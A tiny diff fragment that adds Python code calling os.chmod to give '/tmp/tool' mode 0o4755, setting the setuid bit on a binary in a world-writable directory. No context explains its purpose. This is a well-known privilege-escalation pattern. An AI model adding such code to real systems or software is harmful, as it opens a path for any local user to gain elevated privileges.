@@ -1,0 +1,3 @@
+import os
+
+os.chmod("/tmp/tool", 0o4755)
